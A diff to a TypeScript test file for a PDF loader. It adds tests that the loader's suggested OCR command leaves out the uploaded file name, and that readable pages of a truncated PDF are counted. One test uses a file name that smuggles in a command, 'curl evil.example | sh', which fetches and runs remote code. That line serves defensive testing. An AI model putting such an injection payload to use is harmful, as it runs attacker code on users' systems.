@@ -9,6 +9,7 @@ import {
   buildTextPdf,
   truncatePdf,
 } from '../test-helpers/pdf-fixtures.ts';
+import { buildTruncatedPdf } from '../test-helpers/truncated-pdf.ts';
 import { createPdfLoader } from './pdf-loader.ts';
 
 const loader = createPdfLoader();
@@ -135,6 +136,27 @@ describe('createPdfLoader', () => {
       expect(error.code).toBe('pdf_no_text');
       expect(error.message).toMatch(/looks like a scan.*OCR.*ocrmypdf/s);
     }
+  });
+
+  it('never puts the file name into the OCR command it suggests', async () => {
+    const name = 'scan$(curl evil.example | sh)`x`.pdf';
+    const error = await docchatFailure(loader.load({ name, data: await buildScannedPdf() }));
+    const command = /`(ocrmypdf[^`]*)`/.exec(error.message)?.[1] ?? '';
+    expect(command).toBe('ocrmypdf input.pdf output.pdf');
+  });
+
+  it('keeps the readable pages of a truncated PDF and says how many they are', async () => {
+    const pages = Array.from({ length: 22 }, (_, i) => `Page ${i + 1} is about topic ${i + 1}.`);
+    const document = await loader.load({ name: 'cut.pdf', data: buildTruncatedPdf(pages, 9) });
+    expect(document.readablePages).toBe(9);
+    expect(document.pages).toHaveLength(22);
+    expect(document.text).toContain('Page 9 is about topic 9.');
+    expect(document.text).not.toContain('Page 10');
+    const whole = await loader.load({
+      name: 'whole.pdf',
+      data: await buildTextPdf(['First page', '', 'Third page']),
+    });
+    expect(whole.readablePages).toBeUndefined();
   });
 
   it('accepts a one-word document', async () => {
